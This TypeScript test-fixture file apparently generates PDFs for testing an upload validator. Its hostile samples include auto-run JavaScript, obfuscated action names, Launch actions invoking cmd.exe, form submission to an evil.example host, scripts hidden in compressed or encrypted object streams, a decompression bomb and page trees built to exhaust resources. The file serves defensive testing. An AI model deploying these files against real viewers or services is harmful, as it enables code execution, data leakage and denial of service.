import { createHash, randomBytes } from 'node:crypto'
import { constants, deflateRawSync, deflateSync } from 'node:zlib'

import type { PdfProblem } from '#app/files/file-rules.ts'
import { storePdf } from '#app/files/pdfs/store-pdf.server.ts'
import type { Storage } from '#app/files/storage/storage.server.ts'
import type { Db } from '#app/platform/db.server.ts'
import { assemble, catalog, pageTree, stream } from '#app/files/pdfs/assemble-pdf.ts'

import { bytesOf, png } from './pictures.ts'

interface Drawing {
  pages?: number
  /** Bytes of random data, spread before and after the content of each page: a file as large as a scan. */
  noise?: number
  trailer?: string
}

/** A PDF of which each page shows its number in large letters. */
export function pdf({ pages = 1, noise = 0, trailer = '' }: Drawing = {}) {
  const numbers = Array.from({ length: pages }, (_, index) => index)
  const half = noise / pages / 2
  const share = (bytes: number) => (noise > 0 ? [stream(randomBytes(bytes))] : [])
  const objects = noise > 0 ? 4 : 2
  const kids = numbers.map((index) => `${4 + index * objects} 0 R`).join(' ')
  const drawn = numbers.flatMap((index) => {
    const font = '<< /Font << /F1 3 0 R >> >>'
    const content = (noise > 0 ? 6 : 5) + index * objects
    const page = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources ${font} /Contents ${content} 0 R >>`
    return [
      page,
      ...share(Math.floor(half)),
      stream(Buffer.from(`BT /F1 72 Tf 90 600 Td (Page ${index + 1}) Tj ET`)),
      ...share(Math.ceil(half)),
    ]
  })
  const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
  return assemble([catalog, pageTree(kids, pages), font, ...drawn], trailer)
}

/** A black square in fax compression, as scanners use it, and a character of a font that no system has. */
export function faxPdf() {
  const resources = '<< /XObject << /Scan 4 0 R >> /Font << /Signs 6 0 R >> >>'
  const page = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources ${resources} /Contents 5 0 R >>`
  const fax = '/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 64 /Rows 64 /BlackIs1 true >>'
  const entries = `/Type /XObject /Subtype /Image /Width 64 /Height 64 /BitsPerComponent 1 /ColorSpace /DeviceGray ${fax}`
  const scan = stream(Buffer.alloc(8, 0xff), entries) // one bit per row: the same as the row above
  const content = stream(Buffer.from('q 300 0 0 300 90 300 cm /Scan Do Q BT /Signs 40 Tf 90 700 Td (a) Tj ET'))
  const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Symbol >>'
  return assemble([catalog, pageTree('3 0 R', 1), page, scan, content, font])
}

const paddedPassword = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex')

/**
 * PDF's oldest encryption. Against reading, nobody knows the password; against changes only, it is empty, so every
 * viewer opens the file.
 */
function lockOf(against: 'reading' | 'changes') {
  const [owner, id] = [randomBytes(32), randomBytes(16)]
  const permissions = Buffer.from([0xfc, 0xff, 0xff, 0xff])
  const secret = createHash('md5').update(paddedPassword).update(owner).update(permissions).update(id).digest()
  const user = against === 'changes' ? rc4(secret.subarray(0, 5), paddedPassword) : randomBytes(32)
  const entries = `/O <${owner.toString('hex')}> /U <${user.toString('hex')}> /P -4`
  const identity = `<${id.toString('hex')}>`
  const encrypt = (object: number, bytes: Buffer) => {
    const salt = Buffer.from([object, 0, 0, 0, 0])
    const key = createHash('md5').update(secret.subarray(0, 5)).update(salt).digest().subarray(0, 10)
    return Buffer.from(rc4(key, bytes))
  }
  return { encrypt, trailer: `/Encrypt << /Filter /Standard /V 1 /R 2 ${entries} >> /ID [${identity} ${identity}]` }
}

export const lockedPdf = (against: 'reading' | 'changes') => pdf({ pages: 2, trailer: lockOf(against).trailer })

function rc4(key: Buffer, text: Buffer) {
  const state = Array.from({ length: 256 }, (_, index) => index)
  const swap = (a: number, b: number) => ([state[a], state[b]] = [state[b]!, state[a]!])
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + state[i]! + key[i % key.length]!) % 256
    swap(i, j)
  }
  let [i, j] = [0, 0]
  return Buffer.from(text).map((byte) => {
    i = (i + 1) % 256
    j = (j + state[i]!) % 256
    swap(i, j)
    return byte ^ state[(state[i]! + state[j]!) % 256]!
  })
}

/** A few kilobytes that describe a page tree of 30 levels with a hundred branches each. */
export function endlessPages() {
  const levels = 30
  const kids = (level: number) => `${level + 3} 0 R `.repeat(100)
  const nodes = Array.from({ length: levels }, (_, level) => pageTree(kids(level), 2_000_000_000))
  return assemble([catalog, ...nodes, '<< /Type /Nothing >>'])
}

/** A page tree as deep as fits into a file, one node per level: following it takes longer than anybody waits. */
export function deepPages() {
  const levels = 200_000
  const nodes = Array.from({ length: levels }, (_, level) => pageTree(`${level + 3} 0 R`, 2_000_000_000))
  return assemble([catalog, ...nodes, '<< /Type /Page >>'])
}

const aPage = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'

/** A PDF of one page with additional entries in its catalog, and the objects they refer to, numbered from 4. */
export const pdfSaying = (entries: string, ...objects: (string | Buffer)[]) =>
  assemble([`<< /Type /Catalog /Pages 2 0 R ${entries} >>`, pageTree('3 0 R', 1), aPage, ...objects])

/** Like `pdfSaying`, but with the catalog compressed into an object stream, as most programs write it. */
function packedPdf(entries: string, { type = '/Type /ObjStm', isLocked = false } = {}) {
  const { encrypt, trailer } = isLocked
    ? lockOf('changes')
    : { encrypt: (_: number, bytes: Buffer) => bytes, trailer: '' }
  const place = '1 0 '
  const packed = deflateSync(`${place}<< /Type /Catalog /Pages 2 0 R ${entries} >>`)
  const head = `${type} /N 1 /First ${place.length} /Filter /FlateDecode`
  const parts = [Buffer.from('%PDF-1.7\n')]
  const places: number[] = []
  let size = parts[0]!.length
  const add = (number: number, object: string | Buffer) => {
    const part = Buffer.concat([Buffer.from(`${number} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')])
    places[number] = size
    parts.push(part)
    size += part.length
  }
  add(2, pageTree('3 0 R', 1))
  add(3, aPage)
  add(4, stream(encrypt(4, packed), head))
  const table = Buffer.alloc(6 * 6)
  table.set([2, 0, 0, 0, 4, 0], 6) // object 1 is the first in the object stream 4
  for (const number of [2, 3, 4, 5]) {
    table.writeUInt8(1, number * 6)
    table.writeUInt32BE(places[number] ?? size, number * 6 + 1)
  }
  const tableAt = size
  add(5, stream(table, `/Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R ${trailer}`))
  return Buffer.concat([...parts, Buffer.from(`startxref\n${tableAt}\n%%EOF\n`)])
}

const script = '<< /S /JavaScript /JS (app.alert(1)) >>'

/** PDFs that run something by themselves, or on a click other than on a plain link. */
export const activePdfs: { what: string; make: () => Buffer }[] = [
  { what: 'runs a script when it is opened', make: () => pdfSaying(`/OpenAction ${script}`) },
  { what: 'runs a script that stands elsewhere', make: () => pdfSaying('/OpenAction 4 0 R', script) },
  { what: 'has its script spelt by codes', make: () => pdfSaying('/Open#41ction << /#53 /J#61vaScript /JS (1) >>') },
  { what: 'has a comment in its script', make: () => pdfSaying('/OpenAction << /S %x\n/JavaScript /JS (1) >>') },
  {
    what: 'has a kind that stands elsewhere',
    make: () => pdfSaying('/OpenAction << /S 4 0 R /JS (1) >>', '/JavaScript'),
  },
  { what: 'runs a script when it is closed', make: () => pdfSaying(`/AA << /WC ${script} >>`) },
  { what: 'has scripts by name', make: () => pdfSaying(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`) },
  {
    what: 'starts a program',
    make: () => pdfSaying('/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'),
  },
  { what: 'starts a program by a click', make: () => withAnnotation('<< /S /Launch /F (cmd.exe) >>') },
  { what: 'sends a form', make: () => pdfSaying('/OpenAction << /S /SubmitForm /F (https://evil.example) >>') },
  { what: 'reads data', make: () => pdfSaying('/OpenAction << /S/ImportData /F (a.fdf) >>') },
  { what: 'opens the file in it', make: () => pdfSaying('/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>') },
  { what: 'opens a site by itself', make: () => pdfSaying('/OpenAction << /S /URI /URI (https://evil.example) >>') },
  {
    what: 'has a form with scripts',
    make: () => pdfSaying('/AcroForm << /Fields [] /XFA 4 0 R >>', stream(Buffer.from('<x/>'))),
  },
  { what: 'has its script packed', make: () => packedPdf(`/OpenAction ${script}`) },
  {
    what: 'has its script packed where nobody says so',
    make: () => packedPdf(`/AA << /WC ${script} >>`, { type: '' }),
  },
]

/** Opens without a password, but is encrypted: what it contains is known only to readers that decrypt it. */
export const encryptedPdf = ({ entries = '' } = {}) => packedPdf(entries, { isLocked: true })
export const encryptedLaunch = () => encryptedPdf({ entries: '/OpenAction << /S /Launch /F (cmd.exe) >>' })

/** With a form field that a digital signature fills, as programs write it. The signature itself is none. */
export const signedPdf = () =>
  pdfSaying(
    '/AcroForm << /Fields [4 0 R] /SigFlags 3 >>',
    `<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /Rect [0 0 0 0] /F 132 /P 3 0 R /V 5 0 R >>`,
    `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 10 20 10] /Contents <3082> >>`,
  )

/** A PDF of scanned pages: each is a picture of grey noise, which no program can pack into less. */
export function scannedPdf({ pages = 1 } = {}) {
  const [width, height] = [300, 424]
  const entries = `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /BitsPerComponent 8 /ColorSpace /DeviceGray`
  const kids = Array.from({ length: pages }, (_, index) => `${3 + index * 3} 0 R`).join(' ')
  const drawn = Array.from({ length: pages }, (_, index) => [
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${4 + index * 3} 0 R /Resources << /XObject << /Scan ${5 + index * 3} 0 R >> >> >>`,
    stream(Buffer.from('q 595 0 0 842 0 0 cm /Scan Do Q')),
    stream(randomBytes(width * height), entries),
  ])
  return assemble([catalog, pageTree(kids, pages), ...drawn.flat()])
}

/** PDFs that only look active. */
export const passivePdfs: { what: string; make: () => Buffer }[] = [
  { what: 'opens at a page', make: () => pdfSaying('/OpenAction [3 0 R /Fit]') },
  { what: 'opens at a page by an action', make: () => pdfSaying('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>') },
  { what: 'links to a site', make: () => withAnnotation('<< /S /URI /URI (https://puthi.example) >>') },
  { what: 'is about scripts', make: () => pdfSaying('/Lang (HTML/JavaScript, /Launch and /SubmitForm)') },
  {
    what: 'has a file in it',
    make: () => pdfSaying('/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.txt) >>] >> >>'),
  },
  { what: 'has packed objects', make: () => packedPdf('/OpenAction [3 0 R /Fit]') },
  {
    what: 'has an outline before a picture',
    make: () =>
      pdfSaying(
        '/Outlines 4 0 R',
        '<< /First 5 0 R /Last 5 0 R >>',
        '<< /Title (A) /Parent 4 0 R >>',
        stream(Buffer.from([0xff, 0xd8, 0xff, 0xd9]), '/Filter /DCTDecode'),
      ),
  },
]

const withAnnotation = (action: string) =>
  assemble([
    catalog,
    pageTree('3 0 R', 1),
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${action} >>`,
  ])

/** Two megabytes that inflate to two gigabytes when a reader looks for the catalog. */
export function unpackingBomb() {
  const piece = deflateRawSync(Buffer.alloc(32 * 1_048_576, ' '), { finishFlush: constants.Z_FULL_FLUSH })
  const packed = Buffer.concat([
    Buffer.from([0x78, 0x9c]),
    deflateRawSync('1 0 ', { finishFlush: constants.Z_FULL_FLUSH }),
    ...Array.from({ length: 64 }, () => piece),
  ])
  const packedObjects = stream(packed, '/Type /ObjStm /N 1 /First 2000000000 /Filter /FlateDecode')
  const start = Buffer.from('%PDF-1.7\n')
  const objects = Buffer.concat([Buffer.from('2 0 obj\n'), packedObjects, Buffer.from('\nendobj\n')])
  const tableAt = start.length + objects.length
  const table = Buffer.alloc(4 * 6)
  table.set([2, 0, 0, 0, 2, 0], 6) // object 1 is the first in the object stream 2
  table.writeUInt8(1, 12)
  table.writeUInt32BE(start.length, 13)
  table.writeUInt8(1, 18)
  table.writeUInt32BE(tableAt, 19)
  const entries = '/Type /XRef /Size 4 /W [1 4 1] /Root 1 0 R'
  const end = `\nendobj\nstartxref\n${tableAt}\n%%EOF\n`
  return Buffer.concat([start, objects, Buffer.from('3 0 obj\n'), stream(table, entries), Buffer.from(end)])
}

interface WrongPdf {
  what: string
  name: string
  make: () => Buffer | Promise<Buffer>
  problem: PdfProblem
}

/** Invalid files that people or attackers send, and the problem reported for each. */
export const wrongPdfs: WrongPdf[] = [
  { what: 'text', name: 'a.pdf', make: () => Buffer.from('I am no PDF'), problem: 'not a pdf' },
  {
    what: 'a page of HTML that claims to be a PDF',
    name: 'a.pdf',
    make: () => Buffer.from('<!doctype html><!-- %PDF-1.7 --><script>alert(1)</script><!-- %%EOF -->'),
    problem: 'not a pdf',
  },
  { what: 'a PNG', name: 'a.pdf', make: () => png(40, 30), problem: 'not a pdf' },
  { what: 'half a PDF', name: 'a.pdf', make: () => half(pdf({ pages: 20 })), problem: 'not a pdf' },
  {
    what: 'a PDF whose middle is missing',
    name: 'a.pdf',
    make: () => Buffer.concat([pdf().subarray(0, 20), Buffer.from('\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n')]),
    problem: 'not a pdf',
  },
  {
    what: 'the start and the end of a PDF with noise between',
    name: 'a.pdf',
    make: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(50_000), Buffer.from('\n%%EOF\n')]),
    problem: 'not a pdf',
  },
  { what: 'a PDF behind a password', name: 'a.pdf', make: () => lockedPdf('reading'), problem: 'pdf with password' },
  { what: 'a PDF without a page', name: 'a.pdf', make: () => pdf({ pages: 0 }), problem: 'not a pdf' },
  {
    what: 'a PDF that claims fewer pages than none',
    name: 'a.pdf',
    make: () => assemble([catalog, pageTree('', -5)]),
    problem: 'not a pdf',
  },
  { what: 'a PDF that runs a script', name: 'a.pdf', make: activePdfs[0]!.make, problem: 'active pdf' },
  { what: 'a PDF that starts a program, encrypted', name: 'a.pdf', make: encryptedLaunch, problem: 'active pdf' },
  { what: 'a PDF of endless pages', name: 'a.pdf', make: endlessPages, problem: 'not a pdf' },
  { what: '26 MB', name: 'a.pdf', make: () => pdf({ noise: 26 * 1_048_576 }), problem: 'pdf too large' },
  { what: 'nothing', name: 'a.pdf', make: () => Buffer.alloc(0), problem: 'not a pdf' },
]

const half = (bytes: Buffer) => bytes.subarray(0, Math.floor(bytes.length / 2))

/** A stored PDF that no row has taken yet. */
export const aPendingPdf = (db: Db, storage: Storage) => aStoredPdf(db, storage, pdf())

export async function aStoredPdf(db: Db, storage: Storage, content: Buffer) {
  const stored = await storePdf(db, storage, { name: 'a.pdf', bytes: bytesOf(content) })
  if ('problem' in stored) throw new Error(stored.problem)
  return stored.key
}
